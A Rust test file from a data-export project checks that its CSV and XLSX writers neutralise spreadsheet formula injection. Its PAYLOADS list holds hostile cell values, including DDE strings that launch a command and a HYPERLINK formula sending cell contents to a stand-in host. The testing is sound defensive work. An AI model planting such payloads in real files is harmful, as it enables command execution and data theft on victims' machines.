//! The list of columns, and that no text of any is run by a spreadsheet.

use std::fmt::Write;

use sentinelle::aggregates::csv::ByteOrderMark;
use sentinelle::aggregates::query::By;
use sentinelle::exports::columns::{ACTORS, Column, HARM, INCIDENTS, REPORTS, aggregate_headings};
use sentinelle::exports::csv::{CsvWriter, Dialect};
use sentinelle::exports::hxl;
use sentinelle::exports::value::{End, Heading, Kind, Value, Writer};
use sentinelle::exports::xlsx::XlsxWriter;

use crate::exports::reading::{of_csv, sheet};

fn lines_of<R>(table: &str, columns: &[Column<R>], lines: &mut String) {
    for Column { name, kind, source, hxl, .. } in columns {
        let quoted =
            if source.contains(',') { format!("\"{source}\"") } else { (*source).to_owned() };
        writeln!(lines, "{table},{name},{},{quoted},{hxl}", kind.as_str()).expect("a line");
    }
}

/// What `api-spec/columns.csv` must say.
fn list_columns() -> String {
    let mut lines = "table,column,kind,source,hxl\n".to_owned();
    lines_of("incidents", INCIDENTS, &mut lines);
    lines_of("reports", REPORTS, &mut lines);
    lines_of("harm", HARM, &mut lines);
    lines_of("actors", ACTORS, &mut lines);
    for by in By::ALL {
        for heading in aggregate_headings(&[by]).iter().take_while(|one| one.name != "incidents") {
            let source = if heading.name == by.as_str() { "by" } else { "label of its key" };
            let kind = heading.kind.as_str();
            writeln!(lines, "aggregates,{},{kind},{source},", heading.name).expect("a line");
        }
    }
    for heading in aggregate_headings(&[]) {
        writeln!(lines, "aggregates,{},{},count,", heading.name, heading.kind.as_str())
            .expect("a line");
    }
    lines_of("incidents hxl=true", hxl::INCIDENTS, &mut lines);
    lines_of("aggregates hxl=true", hxl::COUNTRIES, &mut lines);
    lines
}

#[test]
fn the_committed_list_of_columns_is_that_of_the_code() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/api-spec/columns.csv");
    let committed = std::fs::read_to_string(path).unwrap_or_default();

    let right = list_columns();

    if committed != right {
        let beside = std::env::temp_dir().join("columns.csv");
        std::fs::write(&beside, &right).expect("a file");
        panic!("api-spec/columns.csv is not what the code says; that is in {}", beside.display());
    }
}

#[test]
fn what_the_fields_of_a_report_are_exported_as_are_columns() {
    let mut names: Vec<&str> = REPORTS.iter().map(|column| column.name).collect();
    names.extend(HARM.iter().map(|column| column.name));
    let fields = include_str!("../../../api-spec/fields.csv");
    let mut reader = csv::Reader::from_reader(fields.as_bytes());
    for record in reader.records() {
        let record = record.expect("a record");
        for name in record[5].split("; ").filter(|name| !name.is_empty()) {
            let name = name.replace("<measure>", "killed").replace("<sex_age>", "f_adult");
            assert!(names.contains(&name.as_str()), "{name} of {}", &record[0]);
        }
    }
}

/// What spreadsheets would run, or read as something else than it is.
const PAYLOADS: [&str; 24] = [
    "=HYPERLINK(\"http://x/?\"&A1,\"voir\")",
    "-12 victimes",
    "+23277000001",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1",
    "\u{200b}@x",
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(1)",
    "|calc",
    "%0A-1",
    "=cmd|' /C calc'!A0",
    "\"=1\"",
    "a\"b,c;d",
    "=\"a\"\r\n=b",
    "-2+3+cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "@=1;=2",
];

/// Whether a cell as the program shows it would be run.
fn is_run(cell: &str) -> bool {
    let shown = cell.trim_start_matches(|c: char| {
        c.is_whitespace() || c.is_control() || matches!(c, '\u{feff}' | '\u{200b}')
    });
    cell.starts_with(['\t', '\r', '\n'])
        || shown.starts_with(['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠'])
}

fn every_text_column() -> Vec<Heading> {
    fn of<R>(columns: &[Column<R>]) -> impl Iterator<Item = Heading> {
        columns.iter().map(Column::heading)
    }
    let all = of(INCIDENTS).chain(of(REPORTS)).chain(of(HARM)).chain(of(ACTORS));
    let all = all.chain(aggregate_headings(&[By::Country, By::Admin1, By::Actor]));
    all.filter(|heading| matches!(heading.kind, Kind::Text | Kind::Date)).collect()
}

#[test]
fn no_text_of_any_column_is_run_and_every_one_is_exact_in_excels_own_format() {
    let headings = every_text_column();
    assert!(headings.len() > 60, "{} columns", headings.len());
    for delimiter in [',', ';'] {
        let dialect = Dialect { mark: ByteOrderMark::Written, delimiter };
        let mut writer = CsvWriter::new(&headings, dialect, false);
        for payload in PAYLOADS {
            let row: Vec<Value<'_>> =
                headings.iter().map(|_| Value::Text(payload.into())).collect();
            writer.row(&row).expect("a row");
        }
        let rows = of_csv(&writer.take().expect("a file"));
        assert_eq!(rows.len(), PAYLOADS.len());
        for (row, payload) in rows.iter().zip(PAYLOADS) {
            for (name, cell) in row {
                assert!(!is_run(cell), "{name}: {payload:?} is {cell:?}");
                assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), payload, "{name}");
            }
        }
    }

    let mut writer = XlsxWriter::new(&headings, "incidents", false).expect("a workbook");
    for payload in PAYLOADS {
        let row: Vec<Value<'_>> = headings.iter().map(|_| Value::Text(payload.into())).collect();
        writer.row(&row).expect("a row");
    }
    writer.finish(End { rows: 24, as_of: 1 }).expect("an end");
    let lines = sheet(&writer.take().expect("a file"));
    for (line, payload) in lines[1..].iter().zip(PAYLOADS) {
        let right = payload.replace('\r', "_x000D_");
        assert!(line.values().all(|cell| *cell == right), "{payload:?}: {line:?}");
        assert_eq!(line.len(), headings.len());
    }
}
